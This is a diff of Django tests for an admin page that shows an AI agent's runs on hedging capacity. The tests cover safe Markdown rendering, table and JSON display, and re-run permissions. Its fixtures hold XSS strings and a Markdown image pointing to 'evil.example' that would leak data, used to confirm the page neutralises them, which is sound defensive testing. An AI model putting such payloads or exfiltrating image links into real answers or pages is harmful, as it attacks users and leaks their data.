@@ -1,7 +1,7 @@
 """The run detail page of the admin: the answer's Markdown rendered (and made safe), the plan
 and the timings readable."""
 
-from django.contrib.auth.models import Group
+from django.contrib.auth.models import Group, Permission
 
 from hawk.models import AgentRun
 from tests.conftest import restore_roles
@@ -31,7 +31,8 @@ def test_the_run_page_renders_the_answer_plan_and_timings(admin_client, db):
     assert "<h2>Decision: PASS</h2>" in page
     assert "<td>ENT1</td>" in page
     assert "<script>alert(1)</script>" not in page
-    assert "javascript:alert(2)" not in page.split('class="hawk-answer"')[1].split("</div>")[0]
+    shown = page.split('class="hawk-answer hawk-scroll"')[1].split("</div>")[0]
+    assert "javascript:alert(2)" not in shown
     assert 'href="https://example.com"' in page
     assert "<strong>utilisation</strong>" in page and "<td>positions</td>" in page
     assert "<td>extraction</td>" in page
@@ -55,7 +56,7 @@ def test_an_image_in_an_answer_is_shown_as_a_link_never_loaded(admin_client, db)
     answer = "Look: ![chart](https://evil.example/pixel?d=CNY-capacity) done"
     run = AgentRun.objects.create(prompt="p", answer=answer, status="completed")
     page = admin_client.get(change_url(run)).content.decode()
-    shown = page.split('class="hawk-answer"')[1].split("</div>")[0]
+    shown = page.split('class="hawk-answer hawk-scroll"')[1].split("</div>")[0]
     assert "<img" not in shown
     assert 'href="https://evil.example/pixel?d=CNY-capacity"' in shown
     assert ">chart<" in shown
@@ -77,3 +78,87 @@ def test_members_of_the_admin_and_operations_groups_open_run_history(db, client,
         client.force_login(member)
         assert client.get(admin_url(AgentRun, "changelist")).status_code == 200, role
         assert client.get(change_url(run)).status_code == 200, role
+
+
+CAPACITY_TABLE = (
+    "| Entity | Name | Type | NAV type | NAV | Buffer | Hedged | Overlay | Limit | Used | "
+    "Headroom | Available |\n" + "|---" * 12 + "|\n"
+    "| ENTITY0005 | Shanghai Branch | Branch | COI | 1,000,000.00 | 5 % | 200,000.00 | 0.00 | "
+    "950,000.00 | 200,000.00 | 750,000.00 | 750,000.00 |\n"
+)
+
+
+CNY_FILTER = {"currency_code__in_or_null": ["CNY"]}
+
+
+def readable_run(**changes):
+    values = {
+        "prompt": "Check if I can hedge 150K CNY today", "answer": CAPACITY_TABLE,
+        "status": "completed", "backend": "builtin", "total_price": 0,
+        "parameters": {"currency": "CNY", "amount": "150000.00", "entity_id": None},
+        "usage": {"prompt_tokens": 12000, "completion_tokens": 800, "total_price": "0.0000000"},
+        "quality": {"risk": "low", "score": 1.0, "findings": []},
+        "plan": {"intent": "utilisation", "data_scope": "targeted", "business_date": "2026-10-31",
+                 "parameters": {"currency": "CNY"},
+                 "sources": [{"name": "positions", "filters": CNY_FILTER}]},
+        "timings": {"total_ms": 40.0}, "feedback_rating": "dislike",
+        "feedback_comment": "missed the overlay",
+    }  # fmt: skip
+    return AgentRun.objects.create(**{**values, **changes})
+
+
+def test_the_run_pages_tables_scroll_in_their_own_box(admin_client, db):
+    page = admin_client.get(change_url(readable_run())).content.decode()
+
+    answer = page.split('<div class="hawk-answer')[1]
+    assert answer.startswith(' hawk-scroll"')
+    assert "<th>Available</th>" in answer
+    assert "hawk/admin.css" in page
+
+
+def test_the_run_page_shows_its_json_once_structured_and_foldable(admin_client, db):
+    page = admin_client.get(change_url(readable_run())).content.decode()
+
+    assert "&quot;currency&quot;" not in page and '{"currency"' not in page
+    assert '<details class="hawk-json"' in page
+    assert "<dt>currency</dt><dd>CNY</dd>" in page
+    assert "<dt>prompt tokens</dt><dd>12,000</dd>" in page
+    assert "currency code is one of (or none) CNY" in page  # the plan's filters in words
+
+
+def test_the_run_page_shows_amounts_readably_and_the_rating(admin_client, db):
+    page = admin_client.get(change_url(readable_run())).content.decode()
+
+    assert "0.0000000" not in page
+    assert "Disliked: missed the overlay" in page
+    priced = admin_client.get(
+        change_url(readable_run(total_price="0.0123400", price_currency="USD"))
+    )
+    assert "0.01234 USD" in priced.content.decode()
+
+
+def test_rerun_asks_again_as_the_admin_and_opens_the_new_run(
+    admin_client, admin_user, committed_demo
+):
+    old = readable_run(user=None, answer="old answer")
+
+    response = admin_client.post(admin_url(AgentRun, "rerun", old.pk))
+
+    new = AgentRun.objects.exclude(pk=old.pk).get()
+    assert response.status_code == 302
+    assert response["Location"] == change_url(new)
+    assert (new.prompt, new.user_id, new.status) == (old.prompt, admin_user.pk, "completed")
+    assert "PASS" in new.answer
+
+
+def test_rerun_is_a_post_and_needs_the_run_prompts_permission(client, django_user_model, db):
+    run = readable_run()
+    viewer = django_user_model.objects.create_user("run-viewer", is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_agentrun"))
+    client.force_login(viewer)
+
+    assert client.get(change_url(run)).status_code == 200
+    assert 'value="Re-run"' not in client.get(change_url(run)).content.decode()
+    assert client.get(admin_url(AgentRun, "rerun", run.pk)).status_code == 405
+    assert client.post(admin_url(AgentRun, "rerun", run.pk)).status_code == 403
+    assert AgentRun.objects.count() == 1
